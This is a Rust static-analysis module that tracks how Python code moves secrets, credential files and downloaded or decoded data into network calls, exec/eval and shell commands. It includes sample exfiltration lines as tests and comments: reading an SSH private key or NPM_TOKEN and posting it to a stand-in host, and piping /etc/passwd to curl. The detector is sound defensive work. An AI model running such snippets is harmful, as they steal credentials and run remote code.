//! Python on its syntax tree: which values hold secrets (secret environment variables, the
//! whole environment, credential files), downloaded, decoded or file data, and where they go:
//! network calls (EXF020, EXF021), `exec`/`eval`/`shell=True` (SUP020, EXE020), serialised
//! bundles of secrets (CRD020). The analysis is by name and flow-insensitive within a file:
//! a variable holds whatever any assignment gave it, a parameter whatever any call passed, a
//! call to a local function returns what its `return`s do. Passes repeat until nothing new
//! is learnt (at most [`PASSES`]), then one more reports.

use std::collections::{HashMap, HashSet};

use tree_sitter::Node;

use super::secrets::{self, credential_path};
use super::taint::{self, bundle, Taint, BUNDLE, DECODED, DOWNLOAD, FILE, SECRET};
use super::Hit;
use crate::guard::rule::Rule;
use crate::guard::rules::{
    credential_exposure::CRD020,
    execution::{EXE020, EXE021},
    exfiltration::{EXF020, EXF021},
    supply_chain::SUP020,
};

const PASSES: usize = 4;
const MAX_DEPTH: usize = 150;
const MAX_NODES: usize = 400_000;
const MAX_TEXT: usize = 4096;

fn parse(text: &str) -> Option<tree_sitter::Tree> {
    super::parse::parse(super::parse::Grammar::Python, text)
}

/// What the walk below needs to find anything, by how it reads code (callees are matched by
/// their source text, so the words are in the source): a callee that runs code
/// ([`RUNS_CODE`]), `subprocess` given a shell or something other than a list, or a secret
/// read ([`SOURCES`]) together with a network call ([`NETWORK`]) or a serialiser
/// ([`SERIALISERS`]). Code with none of these is not parsed: a helper module that opens its
/// own JSON files and runs `subprocess.run(["git", ...])` cannot hit, and parsing and walking
/// such modules was three quarters of a scan of code-heavy skills.
const RUNS_CODE: &[&str] = &[
    "exec",
    "eval",
    "execfile",
    "run_path",
    "system",
    "popen",
    "getoutput",
    "getstatusoutput",
    "spawn",
    // Callees looked up by name at run time (see `Analysis::callee_name`).
    "getattr",
    "__import__",
    "import_module",
    "__dict__",
];
const SOURCES: &[&str] = &["environ", "getenv", "open", "read_text", "read_bytes"];
const NETWORK: &[&str] = &[
    "requests",
    "httpx",
    "urllib",
    "aiohttp",
    "urlopen",
    "urlretrieve",
    "Request",
    "http",
    "s",
    "sendall",
    "sendto",
    "sendmail",
    "send_message",
    "send",
    "upload_file",
    "put_object",
    "storbinary",
    "socket",
    "resolver",
];
const SERIALISERS: &[&str] = &[
    "dumps",
    "dump",
    "safe_dump",
    "b64encode",
    "b32encode",
    "urlsafe_b64encode",
    "compress",
    "urlencode",
];

/// Whether the walk may find anything in `text` (see [`RUNS_CODE`]).
pub fn may_hit(text: &str) -> bool {
    let (mut source, mut network, mut serialiser, mut unpickles, mut shell) =
        (false, false, false, false, false);
    for w in text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
        // Most words are none of these: their first letter rules most lists out.
        let Some(&first) = w.as_bytes().first() else {
            continue;
        };
        if !FIRST_LETTERS.contains(&first.to_ascii_lowercase()) {
            network |= client_word(w);
        } else if RUNS_CODE.contains(&w) {
            return true;
        } else {
            match w {
                "loads" => unpickles = true,
                "shell" => shell = true,
                _ if SOURCES.contains(&w) => source = true,
                _ if NETWORK.contains(&w) || client_word(w) => network = true,
                _ if SERIALISERS.contains(&w) => serialiser = true,
                _ => {}
            }
        }
        if source && (network || serialiser) {
            return true;
        }
    }
    unpickles && (text.contains("pickle") || text.contains("marshal"))
        || text.contains("subprocess") && (shell || subprocess_without_list(text))
}

/// The first letters of every word [`may_hit`] looks for, lowercased (client words end in
/// `session`, `client` or `pool` but may start with anything: checked apart).
const FIRST_LETTERS: &[u8] = b"_abcdeghiloprsu";

/// A receiver [`recv_is_client`] takes for a network client.
fn client_word(w: &str) -> bool {
    let ends = |suffix: &str| {
        w.len() >= suffix.len()
            && w.as_bytes()[w.len() - suffix.len()..].eq_ignore_ascii_case(suffix.as_bytes())
    };
    ends("session") || ends("client") || ends("pool")
}

/// Whether a `subprocess.<call>(` in `text` is given something other than a list literal
/// first: then what runs may be a string a shell or the file made.
fn subprocess_without_list(text: &str) -> bool {
    text.match_indices("subprocess.").any(|(at, m)| {
        let rest = &text[at + m.len()..];
        let name_end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        let after = rest[name_end..].trim_start();
        match after.strip_prefix('(') {
            Some(args) => !args.trim_start().starts_with(['[', ')']),
            // `subprocess.Popen.x(...)`: a longer callee, judged as one.
            None => after.starts_with('.'),
        }
    })
}

/// Calls that hand their string argument to a shell.
const SHELL_RUNNERS: &[&str] = &[
    "os.system",
    "os.popen",
    "commands.getoutput",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
];

/// A value as far as the file tells.
#[derive(Debug, Clone, Default)]
struct Val {
    taint: Taint,
    /// The string it holds, when constant (paths and URLs are judged by it).
    text: Option<String>,
}

impl Val {
    fn text(t: &str) -> Val {
        Val {
            taint: Taint::default(),
            text: (t.len() <= MAX_TEXT).then(|| t.to_owned()),
        }
    }
    fn taint(t: Taint) -> Val {
        Val {
            taint: t,
            text: None,
        }
    }
}

pub fn analyze(text: &str, out: &mut Vec<Hit>) {
    if !may_hit(text) {
        return;
    }
    if let Some(tree) = parse(text) {
        walk(text, &tree, out);
    }
}

fn walk(text: &str, tree: &tree_sitter::Tree, out: &mut Vec<Hit>) {
    let mut a = Analysis {
        src: text,
        vars: HashMap::new(),
        functions: HashMap::new(),
        returns: HashMap::new(),
        report: false,
        hits: Vec::new(),
        seen: HashSet::new(),
        nodes: 0,
        level: 0,
        scope: None,
        changed: false,
    };
    a.collect_functions(tree.root_node(), 0);
    for _ in 0..PASSES {
        a.changed = false;
        a.nodes = 0;
        a.block(tree.root_node());
        if !a.changed {
            break;
        }
    }
    a.report = true;
    a.nodes = 0;
    a.block(tree.root_node());
    out.extend(a.hits);
}

struct Analysis<'s> {
    src: &'s str,
    /// `scope:name` (or `:name` at module level) -> what it may hold.
    vars: HashMap<String, Val>,
    /// Function name -> its parameter names.
    functions: HashMap<String, Vec<String>>,
    /// Function name -> what its returns may hold.
    returns: HashMap<String, Taint>,
    report: bool,
    hits: Vec<Hit>,
    seen: HashSet<(usize, &'static str)>,
    nodes: usize,
    level: usize,
    /// The function being walked.
    scope: Option<String>,
    changed: bool,
}

impl<'s> Analysis<'s> {
    fn text(&self, n: Node) -> &'s str {
        &self.src[n.byte_range()]
    }

    fn hit(&mut self, rule: &'static Rule, n: Node) {
        if self.report && self.seen.insert((n.start_byte(), rule.id)) {
            self.hits.push(Hit {
                rule,
                start: n.start_byte(),
                end: n.end_byte(),
            });
        }
    }

    /// The shell code a string argument holds: its constant text, or an f-string's with each
    /// placeholder as a shell variable whose value is unknown.
    fn shell_text(&self, arg: Node, value: &Val) -> Option<String> {
        if let Some(t) = &value.text {
            if !t.contains("{}") {
                return Some(t.clone());
            }
        }
        if arg.kind() != "string" {
            return None;
        }
        let mut text = String::new();
        let mut c = arg.walk();
        for p in arg.named_children(&mut c) {
            match p.kind() {
                "string_content" => text.push_str(self.text(p)),
                "interpolation" => text.push_str("\"$PY_VALUE\""),
                _ => {}
            }
        }
        (text.len() <= 1 << 16).then_some(text)
    }

    /// Whether `name` is a parameter of the function being walked: whatever one call in the
    /// file passes, other callers may pass anything.
    fn is_parameter(&self, name: &str) -> bool {
        self.scope
            .as_ref()
            .and_then(|f| self.functions.get(f))
            .is_some_and(|params| params.iter().any(|p| p == name))
    }

    fn collect_functions(&mut self, n: Node, depth: usize) {
        if depth > MAX_DEPTH {
            return;
        }
        if n.kind() == "function_definition" {
            if let (Some(name), Some(params)) = (
                n.child_by_field_name("name"),
                n.child_by_field_name("parameters"),
            ) {
                let mut names = Vec::new();
                let mut c = params.walk();
                for p in params.named_children(&mut c) {
                    let id = match p.kind() {
                        "identifier" => Some(p),
                        _ => p.child_by_field_name("name").or_else(|| p.named_child(0)),
                    };
                    if let Some(id) = id {
                        names.push(self.text(id).to_owned());
                    }
                }
                self.functions.insert(self.text(name).to_owned(), names);
            }
        }
        let mut c = n.walk();
        let children: Vec<Node> = n.named_children(&mut c).collect();
        for ch in children {
            self.collect_functions(ch, depth + 1);
        }
    }

    fn key(&self, name: &str) -> String {
        format!("{}:{name}", self.scope.as_deref().unwrap_or(""))
    }

    fn lookup(&self, name: &str) -> Option<&Val> {
        self.vars
            .get(&self.key(name))
            .or_else(|| self.vars.get(&format!(":{name}")))
    }

    fn bind(&mut self, name: &str, v: &Val) {
        let key = self.key(name);
        let entry = self.vars.entry(key).or_default();
        let before = entry.taint.clone();
        entry.taint.add(&v.taint);
        if v.text.is_some() {
            entry.text = v.text.clone();
        }
        if entry.taint != before {
            self.changed = true;
        }
    }

    fn bind_target(&mut self, target: Node, v: &Val) {
        match target.kind() {
            "identifier" => {
                let name = self.text(target).to_owned();
                self.bind(&name, v);
            }
            "pattern_list" | "tuple_pattern" | "list_pattern" | "tuple" | "list" => {
                let mut c = target.walk();
                let parts: Vec<Node> = target.named_children(&mut c).collect();
                for p in parts {
                    self.bind_target(p, v);
                }
            }
            // `obj.attr = v`, `d[k] = v`: the object holds it now.
            "attribute" | "subscript" => {
                let base = target
                    .child_by_field_name("object")
                    .or_else(|| target.child_by_field_name("value"));
                if let Some(b) = base {
                    self.bind_target(b, v);
                }
            }
            _ => {}
        }
    }

    fn block(&mut self, n: Node) {
        self.nodes += 1;
        if self.nodes > MAX_NODES || self.level > MAX_DEPTH {
            return;
        }
        self.level += 1;
        self.statement(n);
        self.level -= 1;
    }

    fn statement(&mut self, n: Node) {
        match n.kind() {
            "function_definition" => {
                let name = n
                    .child_by_field_name("name")
                    .map(|x| self.text(x).to_owned());
                let saved = self.scope.take();
                self.scope = name;
                if let Some(body) = n.child_by_field_name("body") {
                    self.block(body);
                }
                self.scope = saved;
            }
            "expression_statement" => {
                let mut c = n.walk();
                let parts: Vec<Node> = n.named_children(&mut c).collect();
                for p in parts {
                    self.expr_or_assign(p);
                }
            }
            "return_statement" => {
                let v = match n.named_child(0) {
                    Some(e) => self.eval(e),
                    None => Val::default(),
                };
                if let Some(f) = self.scope.clone() {
                    let entry = self.returns.entry(f).or_default();
                    let before = entry.clone();
                    entry.add(&v.taint);
                    if *entry != before {
                        self.changed = true;
                    }
                }
            }
            "for_statement" => {
                let v = match n.child_by_field_name("right") {
                    Some(r) => self.eval(r),
                    None => Val::default(),
                };
                if let Some(l) = n.child_by_field_name("left") {
                    self.bind_target(l, &Val::taint(v.taint));
                }
                self.children_blocks(n, &["body", "alternative"]);
            }
            "with_statement" => {
                let mut c = n.walk();
                let children: Vec<Node> = n.named_children(&mut c).collect();
                for ch in children {
                    if ch.kind() == "with_clause" {
                        let mut c2 = ch.walk();
                        let items: Vec<Node> = ch.named_children(&mut c2).collect();
                        for item in items {
                            let Some(value) = item.child_by_field_name("value") else {
                                continue;
                            };
                            // `open(p) as f` parses as an `as_pattern`.
                            if value.kind() == "as_pattern" {
                                let v = value
                                    .named_child(0)
                                    .map(|e| self.eval(e))
                                    .unwrap_or_default();
                                if let Some(alias) = value.child_by_field_name("alias") {
                                    let target = alias.named_child(0).unwrap_or(alias);
                                    self.bind_target(target, &v);
                                }
                            } else {
                                self.eval(value);
                            }
                        }
                    } else {
                        self.block(ch);
                    }
                }
            }
            "decorated_definition"
            | "class_definition"
            | "if_statement"
            | "while_statement"
            | "try_statement"
            | "block"
            | "module"
            | "elif_clause"
            | "else_clause"
            | "except_clause"
            | "finally_clause"
            | "match_statement"
            | "case_clause"
            | "ERROR" => {
                let mut c = n.walk();
                let children: Vec<Node> = n.named_children(&mut c).collect();
                for ch in children {
                    match ch.kind() {
                        // Conditions are expressions; their calls may be sinks too.
                        k if k.ends_with("statement")
                            || k.ends_with("definition")
                            || k.ends_with("clause")
                            || k == "block"
                            || k == "ERROR" =>
                        {
                            self.block(ch)
                        }
                        _ => {
                            self.eval(ch);
                        }
                    }
                }
            }
            _ => {
                self.expr_or_assign(n);
            }
        }
    }

    fn children_blocks(&mut self, n: Node, fields: &[&str]) {
        for f in fields {
            if let Some(b) = n.child_by_field_name(f) {
                self.block(b);
            }
        }
    }

    fn expr_or_assign(&mut self, n: Node) {
        match n.kind() {
            "assignment" | "augmented_assignment" => {
                let v = match n.child_by_field_name("right") {
                    Some(r) => self.eval(r),
                    None => Val::default(),
                };
                if let Some(l) = n.child_by_field_name("left") {
                    self.bind_target(l, &v);
                }
            }
            _ => {
                self.eval(n);
            }
        }
    }

    fn eval(&mut self, n: Node) -> Val {
        self.nodes += 1;
        if self.nodes > MAX_NODES || self.level > MAX_DEPTH {
            return Val::default();
        }
        self.level += 1;
        let v = self.eval_inner(n);
        self.level -= 1;
        v
    }

    fn eval_all(&mut self, n: Node) -> Val {
        let mut v = Val::default();
        let mut c = n.walk();
        let parts: Vec<Node> = n.named_children(&mut c).collect();
        for p in parts {
            let x = self.eval(p);
            v.taint.add(&x.taint);
        }
        v
    }

    fn eval_inner(&mut self, n: Node) -> Val {
        match n.kind() {
            "string" => {
                let mut text = String::new();
                let mut taint = Taint::default();
                let mut constant = true;
                let mut c = n.walk();
                let parts: Vec<Node> = n.named_children(&mut c).collect();
                for p in parts {
                    match p.kind() {
                        "string_content" => text.push_str(self.text(p)),
                        "interpolation" => {
                            constant = false;
                            let v = self.eval_all(p);
                            taint.add(&v.taint);
                            text.push_str("{}");
                        }
                        _ => {}
                    }
                }
                Val {
                    taint,
                    text: (constant || text.contains("://")).then_some(text),
                }
            }
            "concatenated_string" => {
                let mut out = Val::text("");
                let mut c = n.walk();
                let parts: Vec<Node> = n.named_children(&mut c).collect();
                for p in parts {
                    let v = self.eval(p);
                    out.taint.add(&v.taint);
                    match (&mut out.text, v.text) {
                        (Some(t), Some(s)) => t.push_str(&s),
                        (t, _) => *t = None,
                    }
                }
                out
            }
            "identifier" => {
                let name = self.text(n);
                self.lookup(name).cloned().unwrap_or_default()
            }
            "attribute" => {
                let full = self.text(n);
                if full == "os.environ" || full == "environ" {
                    return Val::taint(Taint::secret(taint::ENVIRONMENT));
                }
                let obj = n.child_by_field_name("object");
                match obj {
                    Some(o) => {
                        let v = self.eval(o);
                        Val::taint(v.taint)
                    }
                    None => Val::default(),
                }
            }
            "subscript" => {
                let value = n.child_by_field_name("value");
                let key = n.child_by_field_name("subscript");
                if let (Some(v), Some(k)) = (value, key) {
                    let base = self.text(v);
                    if base == "os.environ" || base == "environ" {
                        let kv = self.eval(k);
                        return env_read(kv.text.as_deref());
                    }
                    let b = self.eval(v);
                    return Val::taint(b.taint);
                }
                Val::default()
            }
            "binary_operator" => {
                let l = n
                    .child_by_field_name("left")
                    .map(|x| self.eval(x))
                    .unwrap_or_default();
                let r = n
                    .child_by_field_name("right")
                    .map(|x| self.eval(x))
                    .unwrap_or_default();
                let op = n
                    .child_by_field_name("operator")
                    .map(|o| self.text(o))
                    .unwrap_or("");
                let text = match (op, &l.text, &r.text) {
                    ("+", Some(a), Some(b)) if a.len() + b.len() <= MAX_TEXT => {
                        Some(format!("{a}{b}"))
                    }
                    ("/", Some(a), Some(b)) if a.len() + b.len() < MAX_TEXT => {
                        Some(format!("{}/{}", a.trim_end_matches('/'), b))
                    }
                    ("+", Some(a), None) if a.contains("://") => Some(a.clone()),
                    _ => None,
                };
                Val {
                    taint: l.taint.union(&r.taint),
                    text,
                }
            }
            "dictionary" | "list" | "set" | "tuple" => {
                let mut v = self.eval_all(n);
                if bundle(&v.taint) {
                    v.taint.flags |= BUNDLE;
                }
                v
            }
            "call" => self.call(n),
            "parenthesized_expression"
            | "await"
            | "keyword_argument"
            | "pair"
            | "list_splat"
            | "dictionary_splat"
            | "conditional_expression"
            | "boolean_operator"
            | "list_comprehension"
            | "generator_expression"
            | "dictionary_comprehension"
            | "set_comprehension"
            | "for_in_clause"
            | "if_clause"
            | "lambda"
            | "comparison_operator"
            | "not_operator"
            | "unary_operator"
            | "expression_list"
            | "argument_list"
            | "slice"
            | "named_expression" => self.eval_all(n),
            "assignment" | "augmented_assignment" => {
                self.expr_or_assign(n);
                Val::default()
            }
            _ => Val::default(),
        }
    }

    fn call(&mut self, n: Node) -> Val {
        let func = n.child_by_field_name("function");
        let callee = match func {
            Some(f) => self.callee_name(f),
            None => String::new(),
        };
        let method = callee.rsplit('.').next().unwrap_or(&callee).to_owned();
        let receiver = func
            .filter(|f| f.kind() == "attribute")
            .and_then(|f| f.child_by_field_name("object"));
        let recv = receiver.map(|r| self.eval(r)).unwrap_or_default();
        // Arguments: positional values, keyword values by name.
        let mut positional: Vec<(Node, Val)> = Vec::new();
        let mut keywords: Vec<(String, Node, Val)> = Vec::new();
        if let Some(args) = n.child_by_field_name("arguments") {
            let mut c = args.walk();
            let list: Vec<Node> = args.named_children(&mut c).collect();
            for a in list {
                if a.kind() == "keyword_argument" {
                    let name = a
                        .child_by_field_name("name")
                        .map(|x| self.text(x).to_owned())
                        .unwrap_or_default();
                    let v = a
                        .child_by_field_name("value")
                        .map(|x| self.eval(x))
                        .unwrap_or_default();
                    keywords.push((name, a, v));
                } else if a.kind() != "comment" {
                    let v = self.eval(a);
                    positional.push((a, v));
                }
            }
        }
        let mut all = recv.taint.clone();
        for (_, v) in &positional {
            all.add(&v.taint);
        }
        for (k, _, v) in &keywords {
            // A child's environment or a request's headers are not what the call returns.
            if !matches!(k.as_str(), "env" | "headers" | "auth" | "cookies") {
                all.add(&v.taint);
            }
        }
        let first_text = positional.first().and_then(|(_, v)| v.text.clone());

        // Sources.
        if matches!(
            callee.as_str(),
            "os.getenv" | "getenv" | "os.environ.get" | "environ.get"
        ) {
            return env_read(first_text.as_deref());
        }
        if matches!(
            callee.as_str(),
            "os.path.expanduser"
                | "os.path.expandvars"
                | "os.path.abspath"
                | "os.path.realpath"
                | "Path"
                | "pathlib.Path"
                | "str"
                | "os.fspath"
        ) {
            return Val {
                taint: all,
                text: first_text,
            };
        }
        if callee == "os.path.join" {
            let parts: Option<Vec<String>> =
                positional.iter().map(|(_, v)| v.text.clone()).collect();
            return Val {
                taint: all,
                text: parts.map(|p| p.join("/")),
            };
        }
        if matches!(
            callee.as_str(),
            "Path.home" | "pathlib.Path.home" | "os.path.expanduser('~')"
        ) {
            return Val::text("~");
        }
        if matches!(callee.as_str(), "open" | "io.open" | "codecs.open")
            || matches!(method.as_str(), "read_text" | "read_bytes" | "open") && receiver.is_some()
        {
            let path = if receiver.is_some() && callee != "open" && callee != "io.open" {
                recv.text.clone()
            } else {
                first_text.clone()
            };
            let mut t = all.clone();
            if let Some(p) = &path {
                if credential_path(p) {
                    t.add(&Taint::secret(taint::CREDENTIAL_FILE));
                } else if !p.ends_with(".py")
                    && !p.ends_with(".sh")
                    && !p.ends_with(".json")
                    && !p.ends_with(".yaml")
                    && !p.ends_with(".yml")
                    && !p.ends_with(".csv")
                    && !p.ends_with(".md")
                {
                    t.flags |= FILE;
                }
            } else {
                t.flags |= FILE;
            }
            return Val::taint(t);
        }
        if matches!(
            callee.as_str(),
            "base64.b64decode"
                | "base64.b32decode"
                | "base64.a85decode"
                | "base64.b85decode"
                | "base64.urlsafe_b64decode"
                | "bytes.fromhex"
                | "binascii.unhexlify"
                | "binascii.a2b_base64"
                | "codecs.decode"
                | "zlib.decompress"
                | "gzip.decompress"
                | "lzma.decompress"
                | "bz2.decompress"
                | "marshal.loads"
                | "b64decode"
                | "unhexlify"
        ) {
            all.flags |= DECODED;
            return Val::taint(all);
        }

        // Serialising a bundle of secrets (or the whole environment) packs it for transport.
        let serialises = matches!(
            callee.as_str(),
            "json.dumps"
                | "json.dump"
                | "pickle.dumps"
                | "pickle.dump"
                | "yaml.dump"
                | "yaml.safe_dump"
                | "marshal.dumps"
                | "base64.b64encode"
                | "base64.b32encode"
                | "base64.urlsafe_b64encode"
                | "zlib.compress"
                | "gzip.compress"
                | "urllib.parse.urlencode"
                | "urlencode"
        );
        if serialises
            && positional.first().is_some_and(|(a, v)| {
                v.taint.has(BUNDLE) || v.taint.has(SECRET) && environment_itself(self.text(*a))
            })
        {
            self.hit(&CRD020, n);
        }

        // Code execution.
        let shell_true = keywords
            .iter()
            .any(|(k, a, _)| k == "shell" && self.text(*a).ends_with("True"));
        let runs_code = matches!(
            callee.as_str(),
            "exec"
                | "eval"
                | "execfile"
                | "builtins.exec"
                | "pickle.loads"
                | "marshal.loads"
                | "runpy.run_path"
        ) || SHELL_RUNNERS.contains(&callee.as_str())
            || callee == "pty.spawn"
            || callee.starts_with("subprocess.")
                && (shell_true || positional.first().is_some_and(|(a, _)| a.kind() != "list"));
        // A string a shell runs is shell code: `os.system("cat /etc/passwd | curl -d @- URL")`,
        // `subprocess.run(f"curl -s {u} | python3 -", shell=True)`.
        let shell_string = SHELL_RUNNERS.contains(&callee.as_str())
            || callee.starts_with("subprocess.") && shell_true;
        if shell_string {
            if let Some(script) = positional.first().and_then(|(a, v)| self.shell_text(*a, v)) {
                let mut found = Vec::new();
                super::shell::analyze(&script, &mut found);
                for h in found {
                    self.hit(h.rule, n);
                }
            }
        }
        if runs_code {
            let t = positional
                .first()
                .map(|(_, v)| v.taint.clone())
                .unwrap_or_default();
            if t.has(DOWNLOAD) {
                self.hit(&SUP020, n);
            } else if t.has(DECODED) || t.has(FILE) {
                self.hit(&EXE020, n);
            } else if matches!(callee.as_str(), "eval" | "exec")
                && positional.first().is_some_and(|(a, v)| {
                    matches!(a.kind(), "identifier" | "attribute" | "subscript")
                        && (v.text.is_none() || self.is_parameter(self.text(*a)))
                })
            {
                // `eval(expression)`: whatever the caller passes, a model's or a user's text
                // included, runs as Python.
                self.hit(&EXE021, n);
            }
        }

        // Network.
        let downloads = matches!(
            method.as_str(),
            "get" | "urlopen" | "request" | "post" | "put" | "fetch" | "urlretrieve" | "stream"
        ) && (callee.starts_with("requests.")
            || callee.starts_with("httpx.")
            || callee.starts_with("urllib")
            || callee.starts_with("aiohttp")
            || callee == "urlopen"
            || callee == "urlretrieve"
            || recv_is_client(&callee));
        let dns = matches!(
            callee.as_str(),
            "socket.gethostbyname"
                | "socket.getaddrinfo"
                | "socket.gethostbyname_ex"
                | "dns.resolver.resolve"
                | "dns.resolver.query"
                | "resolver.resolve"
                | "resolver.query"
        );
        if dns && positional.first().is_some_and(|(_, v)| v.taint.has(SECRET)) {
            self.hit(&EXF021, n);
        }
        let sink = downloads
            || matches!(
                method.as_str(),
                "sendall"
                    | "sendto"
                    | "sendmail"
                    | "send_message"
                    | "upload_file"
                    | "put_object"
                    | "storbinary"
            )
            || method == "send"
                && receiver.is_some_and(|r| {
                    let t = self.text(r).to_ascii_lowercase();
                    t.contains("sock") || t == "s" || t.contains("conn") || t.contains("ws")
                })
            || callee == "urllib.request.Request"
            || callee == "Request";
        if sink {
            self.network_sink(n, &callee, &positional, &keywords, &recv);
        }
        if callee == "urllib.request.Request" || callee == "Request" {
            // Its headers were judged here, against its URL; what travels on is the body.
            return Val::taint(all);
        }
        // Local functions and methods: arguments flow into parameters, returns flow out.
        let local = if self.functions.contains_key(&callee) {
            Some(callee.clone())
        } else if receiver.is_some() && self.functions.contains_key(&method) {
            Some(method.clone())
        } else {
            None
        };
        if let Some(fname) = local {
            let params = self.functions.get(&fname).cloned().unwrap_or_default();
            // `obj.m(a)` binds `a` to the parameter after `self`.
            let shift = usize::from(
                receiver.is_some() && params.first().is_some_and(|p| p == "self" || p == "cls"),
            );
            let saved = self.scope.replace(fname.clone());
            for (i, (_, v)) in positional.iter().enumerate() {
                if let Some(p) = params.get(i + shift) {
                    self.bind(p, v);
                }
            }
            for (k, _, v) in &keywords {
                if params.contains(k) {
                    self.bind(k, v);
                }
            }
            self.scope = saved;
            let mut out = self.returns.get(&fname).cloned().unwrap_or_default();
            if downloads {
                out.flags |= DOWNLOAD;
            }
            return Val::taint(out);
        }
        if downloads {
            all.flags |= DOWNLOAD;
        }
        Val::taint(all)
    }

    /// What a call's function is: its source text, or, when it is looked up at run time by a
    /// name the file spells out (`getattr(builtins, 'ex' + 'ec')`, `__import__('os').system`,
    /// `__builtins__.__dict__['eval']`), the name it resolves to.
    fn callee_name(&mut self, f: Node) -> String {
        let dynamic = match f.kind() {
            "call" => self.getattr_name(f),
            "attribute" => f
                .child_by_field_name("object")
                .filter(|o| o.kind() == "call")
                .and_then(|o| self.imported_module(o))
                .zip(f.child_by_field_name("attribute"))
                .map(|(m, a)| format!("{m}.{}", self.text(a))),
            "subscript" => {
                let base = f.child_by_field_name("value").map(|v| self.text(v));
                let key = f.child_by_field_name("subscript");
                match (base, key) {
                    (Some(b), Some(k)) if BUILTIN_TABLES.contains(&b) => self.eval(k).text,
                    _ => None,
                }
            }
            _ => None,
        };
        dynamic.unwrap_or_else(|| self.text(f).to_owned())
    }

    /// `getattr(obj, name)` with a name known from the file: `obj.name`, or the builtin.
    fn getattr_name(&mut self, call: Node) -> Option<String> {
        let func = call.child_by_field_name("function")?;
        if self.text(func) != "getattr" {
            return None;
        }
        let args = call.child_by_field_name("arguments")?;
        let obj = args.named_child(0)?;
        let name = self.eval(args.named_child(1)?).text?;
        let obj_name = match obj.kind() {
            "call" => self.imported_module(obj)?,
            _ => self.text(obj).to_owned(),
        };
        Some(if BUILTIN_MODULES.contains(&obj_name.as_str()) {
            name
        } else {
            format!("{obj_name}.{name}")
        })
    }

    /// `__import__('os')`, `importlib.import_module('o' + 's')`: the module named.
    fn imported_module(&mut self, call: Node) -> Option<String> {
        let func = self.text(call.child_by_field_name("function")?);
        if !matches!(
            func,
            "__import__" | "importlib.import_module" | "import_module"
        ) {
            return None;
        }
        let arg = call.child_by_field_name("arguments")?.named_child(0)?;
        self.eval(arg).text
    }

    fn network_sink(
        &mut self,
        n: Node,
        callee: &str,
        positional: &[(Node, Val)],
        keywords: &[(String, Node, Val)],
        recv: &Val,
    ) {
        let mut data = recv.taint.clone();
        let mut header = Taint::default();
        let mut url: Option<String> = None;
        for (i, (_, v)) in positional.iter().enumerate() {
            // `requests.request("POST", url, ...)`: the method comes first.
            let is_method = i == 0
                && callee.ends_with("request")
                && v.text
                    .as_deref()
                    .is_some_and(|t| t.chars().all(|c| c.is_ascii_uppercase()));
            if url.is_none() && !is_method {
                url = v.text.clone();
            }
            data.add(&v.taint);
        }
        for (k, _, v) in keywords {
            if k == "url" {
                url = v.text.clone();
            }
            if matches!(k.as_str(), "headers" | "auth" | "cookies") {
                header.add(&v.taint);
            } else {
                data.add(&v.taint);
            }
        }
        if taint::exfiltration(&data, &header, url.as_deref()) {
            self.hit(&EXF020, n);
        }
    }
}

/// Names of the builtins module.
const BUILTIN_MODULES: &[&str] = &["builtins", "__builtins__"];
/// Tables of the builtins by name.
const BUILTIN_TABLES: &[&str] = &[
    "__builtins__.__dict__",
    "builtins.__dict__",
    "vars(builtins)",
    "vars(__builtins__)",
    "globals()['__builtins__']",
];

/// A client object's method (`session.post`, `client.get`, `http.request`).
fn recv_is_client(callee: &str) -> bool {
    let recv = callee
        .rsplit_once('.')
        .map(|(r, _)| r)
        .unwrap_or("")
        .to_ascii_lowercase();
    recv.ends_with("session")
        || recv.ends_with("client")
        || recv == "http"
        || recv.ends_with("pool")
        || recv == "s"
}

/// `os.environ`, `dict(os.environ)`, `os.environ.copy()`, `{**os.environ}` spelled out.
fn environment_itself(code: &str) -> bool {
    let c: String = code.chars().filter(|c| !c.is_whitespace()).collect();
    matches!(
        c.as_str(),
        "os.environ"
            | "environ"
            | "dict(os.environ)"
            | "os.environ.copy()"
            | "{**os.environ}"
            | "dict(environ)"
    )
}

fn env_read(key: Option<&str>) -> Val {
    match key {
        Some(k) if secrets::secret_name(k) => Val::taint(Taint::secret(k)),
        _ => Val::default(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str) -> Vec<&'static str> {
        let mut out = Vec::new();
        analyze(text, &mut out);
        // What the walk finds, the prefilter lets through.
        let mut unfiltered = Vec::new();
        if let Some(tree) = parse(text) {
            walk(text, &tree, &mut unfiltered);
        }
        assert_eq!(
            out.len(),
            unfiltered.len(),
            "the prefilter drops hits in {text:?}"
        );
        let mut ids: Vec<&'static str> = out.iter().map(|h| h.rule.id).collect();
        ids.sort();
        ids.dedup();
        ids
    }

    #[test]
    fn code_that_cannot_hit_is_not_parsed_and_code_that_can_is() {
        let helpers = "import json, os, subprocess\n\ndef load(path):\n    with open(os.path.join(path, 'a.json')) as f:\n        return json.load(f)\n\nsubprocess.run(['git', 'status'], check=True)\nsubprocess.check_output(\n    ['git', 'log'])\nprint(cfg.get('x'))\n";
        assert!(!may_hit(helpers));
        for hit in [
            // Each word the walk needs, in a file otherwise like the helpers.
            "subprocess.run(cmd)\n",
            "subprocess.run('ls', shell=True)\n",
            "subprocess.Popen.communicate(x)\n",
            "requests.post(u, data=d)\n",
            "s.post(u, data=d)\n",
            "api_session.post(u, data=d)\n",
            "sock.sendall(d)\n",
            "socket.gethostbyname(d)\n",
            "json.dumps(os.environ)\n",
            "os.system(c)\n",
            "eval(x)\n",
            "pickle.loads(b)\n",
        ] {
            assert!(may_hit(&format!("{helpers}{hit}")), "{hit}");
        }
        // A network call without a secret read, a serialiser without one: nothing to send.
        assert!(!may_hit(
            "import requests\nrequests.get('https://x.example')\n"
        ));
        assert!(!may_hit("import json\nprint(json.dumps({'a': 1}))\n"));
    }

    #[test]
    fn secrets_reach_network_calls_through_names_and_functions() {
        assert_eq!(rules("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\nrequests.post('https://t.example/u', data=key)\n"), vec!["EXF020"]);
        assert_eq!(rules("import os\nfrom urllib.request import urlopen\ndef send(v):\n    urlopen('https://t.example/?d=' + v)\nsend(os.environ['NPM_TOKEN'])\n"), vec!["EXF020"]);
        assert_eq!(rules("import base64, os, requests\nh = base64.b64encode(os.environ['JWT_SECRET'].encode()).decode()\nrequests.post(u, json={'exif': f'{h}@x'})\n"), vec!["EXF020"]);
